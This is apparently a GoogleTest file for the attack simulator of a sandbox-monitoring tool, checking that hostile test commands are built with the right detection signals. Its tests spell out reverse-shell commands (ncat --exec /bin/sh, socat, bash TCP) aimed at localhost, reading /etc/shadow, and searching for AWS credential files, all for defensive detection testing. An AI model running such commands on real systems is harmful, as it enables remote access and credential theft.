#include "sandwatch/attack_sim/catalog.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <string>

#include "sandwatch/attack_sim/listener.h"
#include "sandwatch/attack_sim/packages.h"
#include "sandwatch/core/signals.h"

namespace sandwatch::attacksim {
namespace {

TEST(Catalog, EveryVariantBuildsACommandWithSignals) {
  CommandContext ctx;
  ctx.target_host = "127.0.0.1";
  ctx.target_port = 4444;
  ctx.deb = "/var/cache/sandwatch/debs/ncat_1.deb";
  ctx.dropped_path = "/tmp/sw-newbin-abc";
  ctx.unix_socket_path = "/tmp/sw.sock";
  ctx.package_installed_by_us = true;
  for (double hold : {0.0, 100.0}) {
    ctx.hold_ms = hold;
    for (const auto& v : Variants()) {
      if (v.step == "shell") continue;
      auto c = BuildCommand(v.step, v.name, ctx);
      ASSERT_TRUE(c.ok()) << v.step << "=" << v.name;
      EXPECT_FALSE(c->argv.empty());
      ASSERT_FALSE(c->signals.empty()) << v.step << "=" << v.name;
      for (const auto& s : c->signals) EXPECT_FALSE(s.empty());
    }
  }
}

TEST(Catalog, HeldAndBurstFormsOfTheShadowStep) {
  CommandContext ctx;
  ctx.hold_ms = 0;
  auto once = BuildCommand("shadow", "cat", ctx);
  ASSERT_TRUE(once.ok());
  EXPECT_EQ(once->argv, (std::vector<std::string>{"cat", "/etc/shadow"}));
  EXPECT_FALSE(once->held);
  ctx.hold_ms = 50;
  auto held = BuildCommand("shadow", "cat", ctx);
  ASSERT_TRUE(held.ok());
  EXPECT_TRUE(held->held);
  EXPECT_TRUE(held->stdin_hold);
  auto dd = BuildCommand("shadow", "dd", ctx);
  ASSERT_TRUE(dd.ok());
  EXPECT_FALSE(dd->held);  // no form that stays alive: recorded as such
  EXPECT_FALSE(dd->note.empty());
  EXPECT_EQ(held->signals.front(), signals::kShadowFileAccess);
}

TEST(Catalog, ReverseShellSignalsAndTargets) {
  CommandContext ctx;
  ctx.target_host = "::1";
  ctx.target_port = 9;
  auto ncat = BuildCommand("reverse-shell", "ncat", ctx);
  ASSERT_TRUE(ncat.ok());
  EXPECT_EQ(ncat->argv, (std::vector<std::string>{"ncat", "--exec", "/bin/sh", "::1", "9"}));
  EXPECT_EQ(ncat->signals, (std::vector<std::string>{"nc_execution", "reverse_shell"}));
  auto socat = BuildCommand("reverse-shell", "socat", ctx);
  ASSERT_TRUE(socat.ok());
  EXPECT_EQ(socat->argv[1], "TCP6:[::1]:9");
  auto tcp = BuildCommand("reverse-shell", "bash-tcp", ctx);
  ASSERT_TRUE(tcp.ok());
  EXPECT_EQ(tcp->signals, (std::vector<std::string>{"reverse_shell"}));
}

TEST(Catalog, DefaultsFollowSpeedAndMode) {
  EXPECT_EQ(DefaultVariant("shadow", "blog", PackageMode::kStaged), "tail");
  EXPECT_EQ(DefaultVariant("shadow", "fast", PackageMode::kStaged), "cat");
  EXPECT_EQ(DefaultVariant("aws-creds", "blog", PackageMode::kStaged), "find-loop");
  EXPECT_EQ(DefaultVariant("package-install", "fast", PackageMode::kStaged), "dpkg");
  EXPECT_EQ(DefaultVariant("package-install", "fast", PackageMode::kReal), "apt-get");
}

TEST(Catalog, ShellQuoteRoundTripsThroughSh) {
  EXPECT_EQ(ShellQuote("/etc/shadow"), "/etc/shadow");
  EXPECT_EQ(ShellQuote("*/.aws/credentials"), "'*/.aws/credentials'");
  EXPECT_EQ(ShellQuote("it's"), "'it'\\''s'");
  EXPECT_EQ(ShellQuote(""), "''");
}

TEST(Catalog, ApkIsReportedUnavailableOnDebian) {
  const VariantInfo* apk = FindVariant("package-install", "apk");
  ASSERT_NE(apk, nullptr);
  if (!UnavailableReason(*apk).empty()) {
    EXPECT_NE(UnavailableReason(*apk).find("apk"), std::string::npos);
  }
}

TEST(Packages, ParseAndDiff) {
  auto before = ParsePackageStates("bash\tinstalled\nncat\tconfig-files\nlibc6:amd64\tinstalled\n");
  auto after = ParsePackageStates(
      "bash\tinstalled\nncat\tinstalled\nlibc6:amd64\tinstalled\nliblua5.3-0\tunpacked\n");
  EXPECT_EQ(before.at("libc6"), "installed");
  auto added = NewlyInstalled(before, after);
  EXPECT_EQ(added, (std::vector<std::string>{"liblua5.3-0", "ncat"}));
  EXPECT_TRUE(NewlyInstalled(after, after).empty());
}

TEST(Listener, EscapeForDisplayLeavesNoControlBytes) {
  EXPECT_EQ(EscapeForDisplay("uid=0(root)"), "uid=0(root)");
  EXPECT_EQ(EscapeForDisplay("a\x1b[2Jb\\"), "a\\x1b[2Jb\\\\");
  EXPECT_EQ(EscapeForDisplay(std::string("\0\n\xff", 3)), "\\x00\\x0a\\xff");
}

}  // namespace
}  // namespace sandwatch::attacksim

namespace sandwatch::attacksim {
namespace {

TEST(Packages, WaitForDpkgLockWaitsForAnotherProcess) {
  std::string path = "/tmp/sw-attack-sim-lock-XXXXXX";
  int fd = mkstemp(path.data());
  ASSERT_GE(fd, 0);
  std::array<int, 2> ready{};
  ASSERT_EQ(pipe(ready.data()), 0);
  pid_t child = fork();
  if (child == 0) {
    struct flock fl {};
    fl.l_type = F_WRLCK;
    fl.l_whence = SEEK_SET;
    fcntl(fd, F_SETLK, &fl);
    (void)!write(ready[1], "x", 1);
    usleep(400'000);
    _exit(0);
  }
  char c;
  ASSERT_EQ(read(ready[0], &c, 1), 1);
  EXPECT_FALSE(WaitForDpkgLock(0.05, path));  // held by the child
  EXPECT_TRUE(WaitForDpkgLock(10, path));     // free once the child exits
  int status = 0;
  waitpid(child, &status, 0);
  EXPECT_TRUE(WaitForDpkgLock(0, path));
  EXPECT_TRUE(WaitForDpkgLock(0, "/nonexistent/lock"));  // no dpkg: nothing to wait for
  close(fd);
  close(ready[0]);
  close(ready[1]);
  unlink(path.c_str());
}

}  // namespace
}  // namespace sandwatch::attacksim
